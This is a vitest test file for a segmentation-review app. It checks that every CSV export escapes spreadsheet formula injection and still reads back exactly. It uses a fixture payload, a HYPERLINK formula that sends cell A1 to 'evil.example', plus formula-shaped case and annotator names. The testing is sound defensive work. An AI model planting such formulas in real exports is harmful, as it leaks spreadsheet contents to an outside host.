/**
 * CSV formula injection: file names, case folders, annotator names and notes go into the CSVs the app writes, and a
 * spreadsheet runs a cell starting with = + - @ (or a tab, CR, LF) as a formula. Every CSV export of a dataset whose
 * names are formulas is read back by Python's csv module (an independent reader, splitting lines as a spreadsheet
 * does, comment lines included): no cell could run as a formula. Read back by the app's own readers, every value is
 * exactly what was written; so are arbitrary rows of awkward text (fast-check, seed fixed).
 */
import { execFileSync } from 'node:child_process';
import { copyFile, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { labelPath, scanDataset, type DatasetManifest } from '../../src/core/dataset';
import { ExportFolder, exportAudit, exportNnunet, exportScores, exportWorstList } from '../../src/core/export';
import { contentVersion, LabelStore } from '../../src/core/store';
import { formatCsvField, formatCsvRow, parseCsv } from '../../src/shared/csv-text';
import { exportableScores } from '../../src/shared/export/scores-export';
import { worstLabels } from '../../src/shared/export/worst-list';
import { assignmentFromPlan, assignmentToCsv, parseAssignmentCsv, planCorrections } from '../../src/shared/plan';
import { parseScoresCsv } from '../../src/shared/scores-csv';
import type { LabelScore } from '../../src/shared/scores';
import { scratchDir, type Scratch } from '../core/engine/fixtures';
import { maskVoxels, writeCase } from '../core/export/tiny-dataset';

const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"open")';
const CASES = ['c1', '=SUM(1+1)', '@SUM(1)'];

/** Independent of the code under test: what a spreadsheet would run as a formula (a negative number is a number). */
function runsAsFormula(cell: string): boolean {
  if (/^-[\d.]/.test(cell) && cell.trim() === cell && Number.isFinite(Number(cell))) return false;
  return /^[\t\r\n]/.test(cell) || /^\s*[=+\-@]/.test(cell);
}

/** Every CSV's rows as Python's csv module reads them (comma-separated; `sep` another separator). */
function pythonRows(files: string[], sep = ','): Record<string, string[][]> {
  const script = [
    'import csv, json, sys',
    'sep = sys.argv[1]',
    'out = {}',
    'for p in sys.argv[2:]:',
    '    with open(p, newline="", encoding="utf-8") as f:',
    '        out[p] = [row for row in csv.reader(f, delimiter=sep)]',
    'print(json.dumps(out))',
  ].join('\n');
  return JSON.parse(execFileSync('/usr/bin/python3', ['-c', script, sep, ...files], { encoding: 'utf8' })) as Record<string, string[][]>;
}

describe('CSV formula injection', () => {
  let tmp: Scratch;
  let root: string;
  let manifest: DatasetManifest;
  let scores: LabelScore[];
  let out: ExportFolder;

  beforeAll(async () => {
    tmp = await scratchDir('csv-injection');
    root = join(tmp.dir, 'ds');
    for (const [i, c] of CASES.entries()) {
      await writeCase(root, c, i + 1);
      // An organ named like a formula, in every case.
      await copyFile(join(root, c, 'segmentations', 'liver.nii.gz'), join(root, c, 'segmentations', '-2+3.nii.gz'));
    }
    manifest = await scanDataset(root);
    // Scores for every label but those of '@SUM(1)', which the nnU-Net export then leaves out (excluded.csv).
    scores = manifest.cases
      .filter((c) => c.id !== '@SUM(1)')
      .flatMap((c) =>
        c.labels.map((l, k) => ({
          caseId: c.id, organ: l.organ, labelPath: labelPath(l.source), organId: null, predictedDsc: 0.9 + k / 100, slices: [1, 2], sliceDsc: [0.5, 0.75],
          worstSlice: 1, worstSliceDsc: 0.5, status: 'ok' as const, message: k === 0 ? EVIL : '', seconds: 0.5, model: '+model@1', ep: 'cpu',
        })),
      );
    out = await ExportFolder.open(join(tmp.dir, 'out'), { create: true });
  });
  afterAll(async () => {
    await tmp?.cleanup();
  });

  it(`no exported CSV has a cell a spreadsheet would run as a formula, and the app reads back exactly what it wrote`, async () => {
    expect(manifest.cases.map((c) => c.id).sort()).toEqual([...CASES].sort());
    expect(manifest.cases[0].labels.map((l) => l.organ)).toContain('-2+3');
    // A save by an annotator whose name is a formula, so the audit log has one; decisions with formula notes.
    const store = await LabelStore.open({ root, workspaceDir: join(tmp.dir, 'ws') });
    const rel = '=SUM(1+1)/segmentations/-2+3.nii.gz';
    const ref = { caseId: '=SUM(1+1)', file: rel, labelPath: rel, label: { kind: 'file' as const } };
    await store.saveMask(ref, maskVoxels(9), { annotator: EVIL, baseVersion: contentVersion(await readFile(join(root, rel))) });
    const decisions = [{ caseId: 'c1', labelPath: 'c1/segmentations/liver.nii.gz', decision: 'flag', note: '@SUM(A1:A9)', annotator: '-1+1', time: '2025-01-01T00:00:00.000Z' }];

    const paths = [
      ...(await exportScores(out, scores, 'csv')),
      ...(await exportWorstList(out, scores, { count: 100 })).paths,
      ...(await exportAudit(out, manifest, store, decisions)).paths.filter((p) => p.endsWith('.csv')),
    ];
    const nn = await exportNnunet(out, { manifest, resolvePath: (r) => store.resolvePath(r), scores }, { datasetId: 777, datasetName: 'Csv', threshold: 0.5 });
    expect(nn.included.sort()).toEqual(['=SUM(1+1)', 'c1']);
    expect(nn.excluded.map((e) => e.caseId)).toEqual(['@SUM(1)']);
    paths.push(join(nn.folder, 'included.csv'), join(nn.folder, 'excluded.csv'));
    const plan = planCorrections(scores.map((s) => ({ ...s })), { budget: { labels: 4 } });
    const assignment = assignmentFromPlan(plan, { created: '2025-01-01T00:00:00.000Z', createdBy: `x,${EVIL}`, assignee: `Doe, John;@SUM(1)`, organWeights: {} });
    const assignmentFile = join(tmp.dir, 'assignment.csv');
    await writeFile(assignmentFile, assignmentToCsv(assignment));
    paths.push(assignmentFile);

    // Each of these texts is a cell of some file, as written.
    const hostile = [...CASES.slice(1), '-2+3', EVIL, '+model@1', '@SUM(A1:A9)', '-1+1'];
    const rows = pythonRows(paths);
    let cells = 0;
    const seen = new Set<string>();
    for (const p of paths) {
      for (const row of rows[p]) {
        for (const cell of row) {
          cells++;
          expect(runsAsFormula(cell), `${p}: cell ${JSON.stringify(cell)}`).toBe(false);
          for (const h of hostile) if (cell.includes(h)) seen.add(h);
        }
      }
    }
    // The hostile texts are really there (guarded), not dropped.
    expect([...seen].sort()).toEqual([...hostile].sort());
    expect(cells).toBeGreaterThan(100);
    // A spreadsheet that splits at semicolons (some locales) sees no formula in the assignment's comment lines.
    const semicolon = pythonRows([assignmentFile], ';')[assignmentFile].filter((r) => r[0]?.startsWith('#'));
    for (const cell of semicolon.flat()) expect(runsAsFormula(cell), cell).toBe(false);

    // The app's readers give back exactly what was written.
    const text = (name: string): Promise<string> => readFile(join(out.dir, name), 'utf8');
    expect(parseScoresCsv(await text('scores.csv'))).toEqual(exportableScores(scores));
    const worst = parseCsv(await text('worst-labels.csv'));
    expect(worst.slice(1).map((r) => [r[1], r[2], r[3], r[7]])).toEqual(worstLabels(scores, { count: 100 }).map((s) => [s.caseId, s.labelPath, s.organ, s.model]));
    const audit = parseCsv(await text('audit-log.csv'));
    const auditJson = JSON.parse(await text('audit-log.json')) as { events: { who: string | null; note: string; caseId: string }[] };
    expect(audit.slice(1).map((r) => [r[2], r[5], r[9]])).toEqual(auditJson.events.map((e) => [e.caseId, e.who ?? '', e.note]));
    expect(audit.slice(1).map((r) => r[5])).toContain(EVIL);
    expect(parseCsv(await readFile(join(nn.folder, 'excluded.csv'), 'utf8')).slice(1)).toEqual(nn.excluded.map((e) => [e.caseId, e.reasons.join('; ')]));
    expect(parseAssignmentCsv(await readFile(assignmentFile, 'utf8'), 'assignment.csv')).toEqual(assignment);
  });

  it('a label named =HYPERLINK(...) never starts a cell with =, and reads back as itself', () => {
    const row = formatCsvRow(['c1', EVIL, `c1/${EVIL}.nii.gz`, '0.5', '-0.25', '1e-7']);
    expect(row).toBe('c1,"\'=HYPERLINK(""http://evil.example/?""&A1,""open"")","c1/=HYPERLINK(""http://evil.example/?""&A1,""open"").nii.gz",0.5,-0.25,1e-7');
    expect(parseCsv(row)).toEqual([['c1', EVIL, `c1/${EVIL}.nii.gz`, '0.5', '-0.25', '1e-7']]);
  });

  it('round trips are exact for any text, and no written cell runs as a formula (fast-check, seed fixed)', () => {
    const unit = fc.constantFrom('=', '+', '-', '@', "'", '"', ',', ';', ' ', '\t', '\r', '\n', '\r\n', 'a', '1', '.', 'e', '#', '肝');
    const field = fc.string({ unit, maxLength: 8 });
    fc.assert(
      fc.property(fc.array(fc.array(field, { minLength: 2, maxLength: 5 }), { minLength: 1, maxLength: 4 }), (rows) => {
        const text = rows.map(formatCsvRow).join('\n') + '\n';
        expect(parseCsv(text)).toEqual(rows);
        for (const r of rows) {
          for (const v of r) {
            const written = formatCsvField(v);
            const cell = written.startsWith('"') ? written.slice(1, -1).replace(/""/g, '"') : written;
            expect(runsAsFormula(cell), JSON.stringify(v)).toBe(false);
          }
        }
      }),
      { seed: 20250611, numRuns: 2000 },
    );
  });
});
